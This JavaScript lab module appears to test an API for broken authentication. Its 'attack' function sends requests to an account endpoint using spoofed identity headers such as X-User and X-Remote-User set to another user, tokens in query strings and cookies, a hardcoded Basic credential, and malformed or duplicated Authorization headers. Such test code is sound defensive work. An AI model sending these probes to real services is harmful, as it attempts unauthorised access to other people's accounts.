// RFC 6750, section 3.1, and OWASP API2:2023: identity taken from wherever a program may look for it, but for the one place.
import { own } from '../lib/forge.js';

export function benign(lab) { own(lab); }

const names = ['X-Principal', 'X-User', 'X-User-Id', 'X-Remote-User', 'Remote-User', 'X-Forwarded-User', 'X-Auth-Request-User', 'X-Consumer-Username', 'X-Is-Internal', 'X-Spiffe-Id'];
const credentials = (token) => [
  { headers: names.map((n) => [n, 'bob']).concat([['X-Scopes', 'account:read']]) },
  { path: `/v1/account?access_token=${token}` }, { path: `/v1/account?token=${token}` }, { headers: [['Cookie', `access_token=${token}`]] },
  { headers: [['Authorization', 'Basic Ym9iOmJvYg==']] }, { headers: [['Authorization', 'Negotiate Ym9i']] }, { headers: [['Authorization', 'Bearer']] },
  { headers: [['Authorization', token]] }, { headers: [['X-Authorization', `Bearer ${token}`]] }, { headers: [['Proxy-Authorization', `Bearer ${token}`]] },
  { headers: [['Authorization', `Bearer ${token}`], ['Authorization', `Bearer ${token}`]] },
];

export function attack(lab) {
  const seen = credentials(lab.tokens.alice).map((c) => lab.http(Object.assign({ path: '/v1/account' }, c)));
  lab.judge(seen.some((r) => r.status === 200), `status ${seen.map((r) => r.status)}`);
}
